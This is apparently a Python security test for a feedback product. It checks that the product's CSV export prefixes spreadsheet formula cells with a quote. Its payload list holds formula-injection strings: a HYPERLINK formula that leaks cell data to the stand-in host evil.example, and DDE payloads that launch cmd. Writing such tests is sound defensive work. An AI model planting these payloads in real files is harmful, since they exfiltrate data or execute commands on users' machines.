"""Every CSV the product writes shows formulas as text: a customer's words never run in a spreadsheet."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from bot.feedback import Answers, ConversationRef, get_feedback_service
from tests.security.data_support import cli_env, siloscope

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for a refund")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "＝1+1",
]


def test_export_csv_neutralises_formula_cells(tmp_path: Path, tmp_database: str) -> None:
    service = get_feedback_service()
    for n, payload in enumerate(PAYLOADS):
        ref = ConversationRef(key=f"csv-{n}", sender_id=f"s-{n}", customer_ref=f"=C-{n}", touchpoint="invoice",
                              channel="=webchannel", order_id="@ord-1", ticket_id="+T1")
        service.record(ref, Answers(score=1, text=payload, probe_text=payload))
    env = cli_env(tmp_path)
    env["DATABASE_URL"] = tmp_database
    done = siloscope(env, "export", "--format", "csv")
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(io.StringIO(done.stdout)))
    assert len(rows) == len(PAYLOADS)
    for row in rows:
        for column in ("text", "probe_text", "customer_ref", "channel", "order_id", "ticket_id"):
            assert row[column].startswith("'"), (column, row[column])
        assert row["score"] == "1"  # numbers stay numbers
    assert {row["text"][1:] for row in rows} == {p.replace("\t", " ") for p in PAYLOADS}
